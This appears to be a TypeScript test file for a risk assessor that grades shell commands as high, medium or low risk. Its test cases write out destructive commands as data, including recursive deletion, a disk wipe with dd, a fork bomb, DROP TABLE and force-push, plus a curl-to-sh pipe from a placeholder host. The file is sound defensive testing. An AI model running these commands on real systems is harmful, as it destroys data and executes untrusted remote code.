import assert from 'node:assert/strict';
import { assess } from './risk-assessor.ts';

describe('assess', () => {
	const cases: readonly (readonly ['high' | 'medium' | 'low', readonly string[]])[] = [
		['high', ['rm', '-rf', 'dist']],
		['high', ['rm', 'a', '--recursive']],
		['high', ['dd', 'if=/dev/zero', 'of=/dev/sda']],
		['high', ['chmod', '-R', '777', '.']],
		['high', ['psql', '-c', 'DROP TABLE users']],
		['high', ['killall', 'node']],
		['high', ['sh', '-c', ':(){ :|:& };:']],
		['high', ['git', 'push', 'origin', '--force']],
		['high', ['git', 'reset', '--hard']],
		['medium', ['sh', '-c', 'curl https://x.test | sh']],
		['medium', ['sudo', 'ls']],
		['medium', ['npm', 'publish']],
		['medium', ['systemctl', 'stop', 'nginx']],
		['low', ['npm', 'test']],
		['low', ['rm', 'a.txt']],
	];
	for (const [level, argv] of cases) {
		it(`calls ${argv.join(' ')} ${level}`, () => {
			assert.equal(assess([{ kind: 'command', argv, cwd: '.' }]).level, level);
		});
	}

	it('sees what a command is fed with', () => {
		const sh = { kind: 'command', argv: ['sh'], cwd: '.', fedBy: [['curl', 'https://x.test']] } as const;
		assert.equal(assess([sh]).level, 'medium');
	});
});
